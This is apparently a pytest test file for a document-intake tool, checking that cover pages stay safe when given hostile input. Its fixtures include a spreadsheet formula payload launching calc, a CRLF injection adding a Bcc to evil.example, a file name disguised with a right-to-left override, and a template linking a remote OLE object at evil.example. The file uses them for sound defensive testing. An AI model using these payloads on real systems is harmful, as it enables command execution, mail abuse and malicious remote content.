"""What a person makes of hostile material: covers with odd words, files and templates that could act."""

from collections.abc import Iterator, Sequence
from pathlib import Path

import pytest

from intake.domain.document import Contact
from intake.domain.errors import ConfigurationError, UsageError
from intake.domain.writing import Writing
from intake.pipeline.desk.mails.covers import CoverWishes, make_cover
from intake.pipeline.documents.stamped import stamped
from intake.ports import Reader
from tests.line.acts.test_acts import by, contribution, decisions, taken
from tests.line.letters_in import mail, other_paper
from tests.line.worlds import World
from tests.store.databases import ready_url
from tests.test_templates import with_link

LONG = "On virtual rooms " * 600


@pytest.fixture
def world(tmp_path: Path, reader: Reader) -> Iterator[World]:
    made = World(tmp_path, ready_url("sqlite", tmp_path), reader)
    yield made
    made.close()


@pytest.mark.parametrize(
    ("words", "shown"),
    [
        pytest.param("On\x00 virtual\x0b \x1b[2Jrooms\x9b\uffff", "On virtual [2Jrooms", id="controls"),
        pytest.param("On \u202egpj.exe\u2066 rooms\u2069", "On gpj.exe rooms", id="direction"),
        pytest.param("<w:vanish/> & \"rooms\" ]]> ' {{7*7}}", "<w:vanish/> & \"rooms\" ]]> ' {{7*7}}", id="markup"),
        pytest.param("=cmd|' /C calc'!A0", "=cmd|' /C calc'!A0", id="formula"),
        pytest.param("rooms\r\nBcc: x@evil.example", "rooms Bcc: x@evil.example", id="lines"),
        pytest.param("\ud83d\ude00 rooms", "rooms", id="half-characters"),
        pytest.param(LONG, LONG[:199].rstrip() + "…", id="length"),
    ],
)  # fmt: skip
def test_a_cover_of_odd_words_is_read_as_it_was_written(world: World, words: str, shown: str) -> None:
    line = taken(world, mail("foreign", ("letter.docx", other_paper())))
    wishes = CoverWishes(title=words, source=(words,), contact=Contact(name=words), abstract=words)
    decision = make_cover(line, "1", by("Ana"), wishes)
    cover = decision.verdict.documents[-1].document.cover
    assert (cover.title, cover.source) == (shown, (shown,))
    assert decision.verdict.numbers == ("JCA-MV-Doc-001",)
    assert contribution(line).title == shown
    copy = stamped(line, "JCA-MV-Doc-001")
    seen = line.reader.read_file(copy.content, copy.name).reading.files[0]
    assert seen.problems == ()
    assert seen.word is not None
    assert seen.word.tables[0].rows[0][1].text == "JCA-MV-Doc-001"


def test_a_name_of_a_file_that_could_mislead_is_not_that_of_its_cover(world: World) -> None:
    line = taken(world, mail("foreign", ("..\\CON.docx\u202excod.exe." + "a" * 300 + ".docx", other_paper())))
    decision = make_cover(line, "1", by("Ana"), CoverWishes(title="Rooms", source=("IEEE",)))
    name = decision.verdict.documents[-1].document.file
    assert name.endswith("-cover.docx")
    assert name.isprintable()
    assert len(name) < 256


def test_words_of_which_nothing_is_left_make_no_cover(world: World) -> None:
    line = taken(world, mail("foreign", ("letter.docx", other_paper())))
    with pytest.raises(UsageError, match="no title or no source"):
        make_cover(line, "1", by("Ana"), CoverWishes(title="\u202e\x00 ", source=("IEEE",)))
    assert len(decisions(line)) == 1


def test_no_cover_is_made_of_a_template_that_could_act(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    line = taken(world, mail("foreign", ("letter.docx", other_paper())))
    write = line.reader.write

    def hostile(content: bytes, writings: Sequence[Writing]) -> bytes:
        return with_link(write(content, writings), "oleObject", "https://evil.example/x.doc")

    monkeypatch.setattr(line.reader, "write", hostile)
    with pytest.raises(ConfigurationError, match=r"could act .* \(remote-object\): clean it"):
        make_cover(line, "1", by("Ana"), CoverWishes(title="Rooms", source=("IEEE",)))
    assert len(decisions(line)) == 1
